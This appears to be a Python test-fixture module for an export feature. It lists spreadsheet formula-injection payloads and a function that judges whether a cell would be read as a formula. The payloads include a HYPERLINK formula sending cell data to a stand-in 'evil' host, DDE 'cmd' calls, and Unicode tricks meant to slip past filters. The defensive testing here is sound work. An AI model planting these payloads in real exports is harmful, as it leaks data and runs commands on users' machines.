"""The corpus of spreadsheet formula payloads and the attacker's view of a cell, shared by the escaping tests
(tests/exports/test_escaping.py) and the test that downloads every export (tests/hardening/test_formula_injection.py).
"""

import unicodedata

CORPUS = (
    '=HYPERLINK("http://evil/?"&A2,"x")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil/")',  # fullwidth equals sign
    "   =1+1",  # leading spaces
    "\u00a0\u200f=1+1",  # no-break space and right-to-left mark
    '\u0645\u0631\u062d\u0628\u0627 =HYPERLINK("http://evil/")',  # Arabic text, then a formula
    "\u200f\u0645\u0631\u062d\u0628\u0627",  # a right-to-left mark, then Arabic text (not a formula)
)
SIGNS = "=+-@"
INVISIBLE = ("Zs", "Zl", "Zp", "Cc", "Cf")


def starts_formula(cell) -> bool:
    """Could a spreadsheet program read this text cell as a formula? The attacker's view, written without the
    application's rule: a tab or a carriage return first, or a formula sign (after Unicode compatibility
    normalisation) as the first character once spaces, controls and invisible marks are passed over. A number is
    not a formula (a negative amount is written -12.5)."""
    if not isinstance(cell, str) or not cell:
        return False
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return False
    if cell[0] in "\t\r":
        return True
    for char in cell:
        if unicodedata.category(char) in INVISIBLE:
            continue
        return unicodedata.normalize("NFKC", char)[:1] in SIGNS
    return False
